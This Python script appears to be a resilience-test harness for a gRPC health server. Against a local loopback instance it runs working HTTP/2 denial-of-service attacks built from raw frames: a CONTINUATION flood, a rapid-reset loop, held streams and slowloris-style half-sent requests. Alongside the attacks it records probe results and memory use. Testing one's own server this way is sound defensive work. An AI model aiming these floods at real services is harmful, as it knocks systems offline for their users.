"""Attack harness: hostile HTTP/2 and HTTP clients against the health server, with probes.

Usage (from the repository root)::

    .venv/bin/python scripts/attack.py                       # every attack, 30 s, 4 and 16 conns
    .venv/bin/python scripts/attack.py --attack rapid-reset --seconds 10 --connections 4
    .venv/bin/python scripts/attack.py --target bare --json bare.json

For each attack it starts a fresh server as a child process on 127.0.0.1 (``--target
petsage``: ``python -m petsage_grpc serve --http-port``, as the manifest runs it;
``--target bare``: a grpc.aio server with grpcio-health-checking's servicer and grpc's
default options), lets it settle, measures its baseline RSS, then for ``--seconds`` runs
the attack from ``--connections`` connections (each reconnecting when the server closes
it) while a kubelet-model prober, from 127.0.0.2, opens a new connection every 200 ms and
asks Check ``readiness`` with a 1 s deadline. It samples the server's RSS, threads and
open file descriptors every 200 ms, stops the attack, and reads the RSS again 30 s later
(``--after``). Attacks:

- ``continuation``: HEADERS for Check without END_HEADERS, then 16 KiB CONTINUATION
  frames of small junk headers, never ending the header block.
- ``no-message``: calls that send HEADERS and never a request message (Check, List,
  SmokeTest, reflection in turn), up to 1,000 per connection, held.
- ``watch``: Watch streams, up to 1,000 per connection, held.
- ``rapid-reset``: HEADERS for Check then RST_STREAM at once, as fast as the socket takes.
- ``idle-http``: connections to the HTTP port that send half a request line, held.
- ``idle-grpc``: connections to the gRPC port that send half the HTTP/2 preface, held.

Every loop is bounded in time; the network is loopback only. Prints one line per run and,
with ``--json``, writes every figure. Exit status: 0 when every run finished (whatever its
figures: they are reported, not judged), 1 when the server died, 2 on bad arguments.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Coroutine
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any, Final

import hpack

ROOT: Final = Path(__file__).resolve().parent.parent
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS: Final = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
SETTINGS_ACK: Final = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"
HEADERS, CONTINUATION, RST_STREAM, DATA, GOAWAY = 0x1, 0x9, 0x3, 0x0, 0x7
END_STREAM, END_HEADERS = 0x1, 0x4
CHECK: Final = "/grpc.health.v1.Health/Check"
WATCH: Final = "/grpc.health.v1.Health/Watch"
NO_MESSAGE_PATHS: Final = (
    CHECK,
    "/grpc.health.v1.Health/List",
    "/petsage.v1.SmokeTestService/SmokeTest",
    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
)
FRAME_NAMES: Final = {
    0: "DATA",
    1: "HEADERS",
    3: "RST_STREAM",
    4: "SETTINGS",
    6: "PING",
    7: "GOAWAY",
    8: "WINDOW_UPDATE",
}
ATTACKS: Final = ("continuation", "no-message", "watch", "rapid-reset", "idle-http", "idle-grpc")
STREAMS_PER_CONNECTION: Final = 1_000
PROBE_SOURCE: Final = "127.0.0.2"
PROBE_PERIOD: Final = 0.2
PROBE_TIMEOUT: Final = 1.0


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One HTTP/2 frame."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def request_headers(path: str) -> bytes:
    """A gRPC request's header block, literal without indexing (the same bytes every time)."""
    encoder = hpack.Encoder()
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    return encoder.encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])


def grpc_message(payload: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def health_request(service: str) -> bytes:
    name = service.encode()
    return grpc_message(b"\x0a" + bytes([len(name)]) + name if name else b"")


# -- the server under attack -------------------------------------------------------------


@dataclass
class Server:
    process: subprocess.Popen[bytes]
    port: int
    http_port: int | None
    log: Path

    def proc(self, name: str) -> str:
        return Path(f"/proc/{self.process.pid}/{name}").read_text()

    def sample(self) -> tuple[int, int, int]:
        """RSS (KiB), threads and open file descriptors; zeros once the process is gone."""
        try:
            status = self.proc("status")
            rss = int(re.search(r"VmRSS:\s+(\d+)", status).group(1))  # type: ignore[union-attr]
            threads = int(re.search(r"Threads:\s+(\d+)", status).group(1))  # type: ignore[union-attr]
            fds = len(os.listdir(f"/proc/{self.process.pid}/fd"))
        except (OSError, AttributeError):
            return 0, 0, 0
        return rss, threads, fds


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


BARE_SERVER: Final = """
import asyncio, json, os, sys
import grpc
from grpc_health.v1 import health, health_pb2, health_pb2_grpc
async def main():
    server = grpc.aio.server(options=json.loads(os.environ.get("ATTACK_BARE_OPTIONS", "[]")))
    servicer = health.aio.HealthServicer()
    await servicer.set("readiness", health_pb2.HealthCheckResponse.SERVING)
    health_pb2_grpc.add_HealthServicer_to_server(servicer, server)
    server.add_insecure_port("127.0.0.1:" + sys.argv[1])
    await server.start()
    print("serving on 127.0.0.1:" + sys.argv[1], file=sys.stderr, flush=True)
    await server.wait_for_termination()
asyncio.run(main())
"""


def start_server(target: str, scratch: Path, extra: list[str]) -> Server:
    port, http_port = free_port(), free_port()
    log = scratch / f"{target}-{port}.log"
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    if target == "bare":
        argv = [sys.executable, "-c", BARE_SERVER, str(port)]
        http: int | None = None
    else:
        argv = [sys.executable, "-m", "petsage_grpc", "serve", "--host", "127.0.0.1"]
        argv += ["--port", str(port), "--http-port", str(http_port), *extra]
        http = http_port
    with log.open("wb") as out:
        process = subprocess.Popen(argv, stdout=out, stderr=out, stdin=subprocess.DEVNULL, env=env)
    server = Server(process, port, http, log)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        if "serving on" in log.read_text(errors="replace"):
            return server
        if process.poll() is not None:
            break
        time.sleep(0.05)
    process.kill()
    raise RuntimeError(f"the {target} server did not start: {log.read_text()[-2000:]}")


def stop_server(server: Server) -> int | None:
    if server.process.poll() is None:
        server.process.send_signal(signal.SIGTERM)
        try:
            return server.process.wait(30)
        except subprocess.TimeoutExpired:
            server.process.kill()
            server.process.wait(10)
            return None
    return server.process.returncode


# -- the prober ---------------------------------------------------------------------------


async def probe_once(port: int) -> bool:
    """One kubelet-style probe: a new connection from PROBE_SOURCE, Check readiness, 1 s."""

    async def exchange() -> bool:
        sock = socket.socket()
        sock.setblocking(False)
        try:
            sock.bind((PROBE_SOURCE, 0))
        except OSError:
            sock.bind(("127.0.0.1", 0))
        await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
        reader, writer = await asyncio.open_connection(sock=sock)
        try:
            block = request_headers(CHECK)
            writer.write(
                PREFACE
                + SETTINGS
                + frame(HEADERS, END_HEADERS, 1, block)
                + frame(DATA, END_STREAM, 1, health_request("readiness"))
            )
            buffer = b""
            while True:
                chunk = await reader.read(65536)
                if not chunk:
                    return False
                buffer += chunk
                # The answer: a DATA frame on stream 1 holding status SERVING (0x08 0x01).
                if b"\x00\x00\x00\x00\x02\x08\x01" in buffer:
                    return True
        finally:
            writer.close()

    try:
        return await asyncio.wait_for(exchange(), PROBE_TIMEOUT)
    except (TimeoutError, OSError):
        return False


@dataclass
class Probes:
    ok: int = 0
    failed: int = 0


async def prober(port: int, stop: asyncio.Event, probes: Probes) -> None:
    while not stop.is_set():
        started = time.monotonic()
        if await probe_once(port):
            probes.ok += 1
        else:
            probes.failed += 1
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(
                stop.wait(), max(0.0, PROBE_PERIOD - (time.monotonic() - started))
            )


def run_prober(port: int, seconds: float) -> int:
    """The prober's own process: probe for *seconds*, print "ok failed"."""

    async def timed() -> Probes:
        probes, stop = Probes(), asyncio.Event()
        asyncio.get_running_loop().call_later(seconds, stop.set)
        await prober(port, stop, probes)
        return probes

    probes = asyncio.run(timed())
    print(probes.ok, probes.failed)
    return 0


# -- the attacks --------------------------------------------------------------------------


@dataclass
class Tally:
    connections: int = 0
    closed_by_server: int = 0
    goaways: int = 0
    refused_connections: int = 0
    bytes_sent: int = 0
    frames_seen: dict[str, int] = field(default_factory=dict)


async def drain(reader: asyncio.StreamReader, tally: Tally) -> None:
    """Read and count what the server sends until it closes the connection."""
    buffer = b""
    while chunk := await reader.read(65536):
        buffer += chunk
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind = buffer[3]
            name = FRAME_NAMES.get(kind, str(kind))
            tally.frames_seen[name] = tally.frames_seen.get(name, 0) + 1
            if kind == GOAWAY:
                tally.goaways += 1
            buffer = buffer[9 + length :]


Attack = Callable[[asyncio.StreamWriter, Tally, int], Coroutine[Any, Any, None]]


async def continuation(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    headers = [hpack.NeverIndexedHeaderTuple(f"x-{i:04d}", "y" * 24) for i in range(455)]
    junk = hpack.Encoder().encode(headers)[:16_384]
    writer.write(PREFACE + SETTINGS + SETTINGS_ACK + frame(HEADERS, 0, 1, request_headers(CHECK)))
    payload = frame(CONTINUATION, 0, 1, junk)
    while True:
        for _ in range(16):
            writer.write(payload)
        tally.bytes_sent += 16 * len(payload)
        await writer.drain()


async def no_message(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    blocks = [request_headers(path) for path in NO_MESSAGE_PATHS]
    out = [PREFACE, SETTINGS, SETTINGS_ACK]
    for n in range(STREAMS_PER_CONNECTION):
        out.append(frame(HEADERS, END_HEADERS, 2 * n + 1, blocks[n % len(blocks)]))
    writer.write(b"".join(out))
    await writer.drain()
    await asyncio.Event().wait()  # held until the attack ends or the server closes it


async def watch(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    block = request_headers(WATCH)
    body = health_request("readiness")
    out = [PREFACE, SETTINGS, SETTINGS_ACK]
    for n in range(STREAMS_PER_CONNECTION):
        out.append(frame(HEADERS, END_HEADERS, 2 * n + 1, block))
        out.append(frame(DATA, 0, 2 * n + 1, body))
    writer.write(b"".join(out))
    await writer.drain()
    await asyncio.Event().wait()


async def rapid_reset(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    block = request_headers(CHECK)
    header = struct.pack(">I", len(block))[1:] + bytes([HEADERS, END_HEADERS])
    cancel = b"\x00\x00\x04" + bytes([RST_STREAM, 0])
    writer.write(PREFACE + SETTINGS + SETTINGS_ACK)
    stream = 1
    while stream < 2**31 - 2_000:
        out: list[bytes] = []
        for _ in range(500):
            sid = struct.pack(">I", stream)
            out += (header, sid, block, cancel, sid, b"\x00\x00\x00\x08")
            stream += 2
        data = b"".join(out)
        writer.write(data)
        tally.bytes_sent += len(data)
        await writer.drain()


async def idle_http(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    writer.write(b"GET /readyz HTTP/1.1\r\nHost: x\r\n")  # never the blank line
    await writer.drain()
    await asyncio.Event().wait()


async def idle_grpc(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    writer.write(PREFACE[:10])
    await writer.drain()
    await asyncio.Event().wait()


ATTACK_FUNCTIONS: Final[dict[str, Attack]] = {
    "continuation": continuation,
    "no-message": no_message,
    "watch": watch,
    "rapid-reset": rapid_reset,
    "idle-http": idle_http,
    "idle-grpc": idle_grpc,
}
HELD: Final = {"idle-http": 64, "idle-grpc": 64}
"""Idle attacks: connections per --connections (4 -> 256, 16 -> 1,024)."""


async def attacker(
    port: int, attack: Attack, tally: Tally, index: int, stop: asyncio.Event
) -> None:
    """One attacking connection, reconnecting (at most 20 times a second) when closed."""
    while not stop.is_set():
        started = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 5)
        except (OSError, TimeoutError):
            tally.refused_connections += 1
            await asyncio.sleep(0.05)
            continue
        tally.connections += 1
        reading = asyncio.create_task(drain(reader, tally))
        sending = asyncio.create_task(attack(writer, tally, index))
        stopping = asyncio.create_task(stop.wait())
        await asyncio.wait({reading, sending, stopping}, return_when=asyncio.FIRST_COMPLETED)
        if not stopping.done():
            tally.closed_by_server += 1
        for task in (reading, sending, stopping):
            task.cancel()
        await asyncio.gather(reading, sending, stopping, return_exceptions=True)
        writer.transport.abort()
        await asyncio.sleep(max(0.0, 0.05 - (time.monotonic() - started)))


@dataclass
class Run:
    target: str
    attack: str
    connections: int
    seconds: float
    baseline_rss_kib: int = 0
    peak_rss_kib: int = 0
    peak_threads: int = 0
    peak_fds: int = 0
    rss_after_kib: int = 0
    probes_ok: int = 0
    probes_failed: int = 0
    probes_ok_after: int = 0
    alive: bool = True
    exit_code: int | None = None
    tally: dict[str, Any] = field(default_factory=dict)
    log_lines: int = 0
    log_bytes: int = 0


async def run_attack(server: Server, run: Run, *, after: float) -> None:
    name, connections, seconds = run.attack, run.connections, run.seconds
    stop = asyncio.Event()
    tally = Tally()
    probes = Probes()
    port = server.http_port if name == "idle-http" else server.port
    if port is None:
        raise ValueError(f"{name} needs an HTTP port")
    count = connections * HELD.get(name, 1)
    tasks = [
        asyncio.create_task(attacker(port, ATTACK_FUNCTIONS[name], tally, i, stop))
        for i in range(count)
    ]
    # The prober runs in a process of its own, so that the attack's busy loop does not
    # delay it: its failures are the server's.
    probing_process = await asyncio.create_subprocess_exec(
        sys.executable,
        __file__,
        "--probe",
        str(server.port),
        "--seconds",
        str(seconds),
        stdout=asyncio.subprocess.PIPE,
    )
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and server.process.poll() is None:
        rss, threads, fds = server.sample()
        run.peak_rss_kib = max(run.peak_rss_kib, rss)
        run.peak_threads = max(run.peak_threads, threads)
        run.peak_fds = max(run.peak_fds, fds)
        await asyncio.sleep(0.2)
    stop.set()
    await asyncio.wait_for(asyncio.gather(*tasks, return_exceptions=True), 30)
    out, _ = await asyncio.wait_for(probing_process.communicate(), 30)
    probes.ok, probes.failed = (int(n) for n in out.split())
    run.probes_ok, run.probes_failed = probes.ok, probes.failed
    run.tally = asdict(tally)
    await asyncio.sleep(after)
    run.rss_after_kib = server.sample()[0]
    run.alive = server.process.poll() is None
    if run.alive:
        run.probes_ok_after = sum([await probe_once(server.port) for _ in range(3)])


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="scripts/attack.py", description=__doc__.split("\n")[0])
    parser.add_argument(
        "--attack", action="append", choices=ATTACKS, help="repeatable; default: all"
    )
    parser.add_argument(
        "--target", action="append", choices=("petsage", "bare"), help="default: both"
    )
    parser.add_argument("--connections", type=int, action="append", help="default: 4 and 16")
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument(
        "--after", type=float, default=30.0, help="wait before the last RSS reading"
    )
    parser.add_argument("--settle", type=float, default=2.0, help="wait before the baseline")
    parser.add_argument("--json", type=Path)
    parser.add_argument(
        "--server-arg", action="append", default=[], help="extra petsage serve argument"
    )
    parser.add_argument("--probe", type=int, metavar="PORT", help=argparse.SUPPRESS)
    parser.add_argument(
        "--table", type=Path, metavar="JSON", help="print the runs of a --json file as a table"
    )
    args = parser.parse_args(argv)
    if args.table is not None:
        print(table([Run(**run) for run in json.loads(args.table.read_text())]))
        return 0
    if args.probe is not None:
        return run_prober(args.probe, args.seconds)
    attacks = args.attack or list(ATTACKS)
    targets = args.target or ["petsage", "bare"]
    scratch = ROOT / ".tmp" / "attack"
    scratch.mkdir(parents=True, exist_ok=True)
    runs: list[Run] = []
    for name in attacks:
        for connections in args.connections or [4, 16]:
            for target in targets:
                if target == "bare" and name == "idle-http":
                    continue
                server = start_server(target, scratch, args.server_arg)
                run = Run(target=target, attack=name, connections=connections, seconds=args.seconds)
                try:
                    time.sleep(args.settle)
                    run.baseline_rss_kib = server.sample()[0]
                    asyncio.run(run_attack(server, run, after=args.after))
                finally:
                    run.exit_code = stop_server(server)
                    text = server.log.read_bytes()
                    run.log_bytes, run.log_lines = len(text), text.count(b"\n")
                runs.append(run)
                print(summary(run), flush=True)
    if args.json:
        args.json.write_text(json.dumps([asdict(r) for r in runs], indent=1))
    return 0 if all(r.alive for r in runs) else 1


def table(runs: list[Run]) -> str:
    """The runs as a Markdown table, petsage and bare side by side."""
    lines = [
        "| attack | conns | server | baseline MiB | peak MiB | 30 s after MiB | after / baseline "
        "| threads | fds | probes OK | closed by server | log lines |",
        "|---|---:|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|",
    ]
    for run in runs:
        probes = run.probes_ok + run.probes_failed
        share = (
            f"{run.probes_ok}/{probes} ({100 * run.probes_ok / probes:.0f} %)" if probes else "-"
        )
        ratio = run.rss_after_kib / run.baseline_rss_kib if run.baseline_rss_kib else 0.0
        lines.append(
            f"| {run.attack} | {run.connections} | {run.target} | "
            f"{run.baseline_rss_kib / 1024:.1f} | {run.peak_rss_kib / 1024:.1f} | "
            f"{run.rss_after_kib / 1024:.1f} | {ratio:.2f} | {run.peak_threads} | "
            f"{run.peak_fds} | {share} | {run.tally.get('closed_by_server', 0)} | "
            f"{run.log_lines} |"
        )
    return "\n".join(lines)


def summary(run: Run) -> str:
    """One line of figures for *run*."""
    mib = {
        "baseline": run.baseline_rss_kib / 1024,
        "peak": run.peak_rss_kib / 1024,
        "after": run.rss_after_kib / 1024,
    }
    return (
        f"{run.attack:13} {run.target:8} x{run.connections:<3} "
        f"baseline {mib['baseline']:6.1f} MiB peak {mib['peak']:7.1f} MiB "
        f"after {mib['after']:6.1f} MiB threads {run.peak_threads:3} fds {run.peak_fds:5} "
        f"probes {run.probes_ok}/"
        f"{run.probes_ok + run.probes_failed} after {run.probes_ok_after}/3 "
        f"closed {run.tally['closed_by_server']} goaway {run.tally['goaways']} "
        f"log {run.log_lines} lines exit {run.exit_code}"
    )


if __name__ == "__main__":
    sys.exit(main())
